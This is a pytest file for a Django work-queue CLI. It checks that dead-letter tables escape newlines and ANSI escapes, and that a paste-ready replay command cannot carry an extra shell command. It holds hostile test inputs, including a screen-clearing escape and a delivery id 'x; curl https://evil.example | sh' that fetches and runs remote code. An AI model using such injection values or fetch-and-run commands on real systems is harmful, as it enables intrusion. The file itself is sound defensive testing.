"""What publishers and handlers chose (a partition key, a dead-letter reason, an error's text)
shown on an operator's terminal by ``manage.py workqueue``'s tables: a newline in a cell broke
its row in two (the second passing for a row of its own) and an ANSI escape repainted the
terminal, e.g. cleared the screen above the listing (review helper-142). Each cell is written
with its control characters escaped; ``--json`` keeps the values as they are."""

from __future__ import annotations

import dataclasses
import io
import json
import shlex
from typing import Any

import pytest
from django.core.management import call_command

from tests.factories import SubscriptionFactory
from tests.support.queue import dead_letter
from workqueue.operators import operations

pytestmark = pytest.mark.usefixtures("queue_db")

KEY = "cust-7\nfake-delivery  cust-8  1  Poison"
REASON = "bad email\x1b[2J\x1b[H"
ERROR = "ValueError: red \x1b[31malert\x1b[0m\rover"


def run(*args: str) -> str:
    out = io.StringIO()
    call_command("workqueue", *args, stdout=out, stderr=io.StringIO())
    return out.getvalue()


def test_a_dead_letter_listing_keeps_each_row_on_one_line_and_writes_no_escape():
    sub = SubscriptionFactory(partition_mode="Exclusive")
    delivery_id = dead_letter(sub, partition_key=KEY, reason=REASON, error=ERROR)

    table = run("dead-letters", "-s", sub.name)

    lines = [line for line in table.splitlines() if line and not line.startswith("replay:")]
    assert len(lines) == 3, table  # header, rule, the one dead letter
    assert "\x1b" not in table and "\r" not in table
    assert delivery_id in lines[2] and "cust-7\\nfake-delivery" in lines[2]
    assert "\\x1b[2J" in lines[2]
    [item] = json.loads(run("dead-letters", "-s", sub.name, "--json"))["items"]
    assert (item["message_partition_key"], item["reason"]) == (KEY, REASON)


def test_the_replay_command_a_listing_offers_to_paste_runs_nothing_else(monkeypatch):
    """The listing ends with a replay command ready to paste, naming the first dead letter's
    id. On a cloud queue that id is the message's own (its body or an attribute, which
    whoever may send to the queue wrote): pasted into a shell, ``x; curl evil | sh`` ran a
    second command of the sender's choosing."""
    sub = SubscriptionFactory()
    dead_letter(sub)
    real = operations.list_dead_letters
    hostile = "x; curl https://evil.example | sh\x1b[2J"

    def as_a_cloud_queue_names_it(*args: Any, **kwargs: Any) -> Any:
        page = real(*args, **kwargs)
        first = dataclasses.replace(page.items[0], delivery_id=hostile)
        return dataclasses.replace(page, items=[first, *page.items[1:]])

    monkeypatch.setattr(operations, "list_dead_letters", as_a_cloud_queue_names_it)

    text = run("dead-letters", "-s", sub.name)

    (line,) = [line for line in text.splitlines() if line.startswith("replay:")]
    assert "\x1b" not in line
    argv = shlex.split(line.removeprefix("replay: "))
    assert argv[:5] == ["manage.py", "workqueue", "replay", "-s", sub.name]
    assert argv[5] == "--delivery" and len(argv) == 7  # one argument, nothing after it
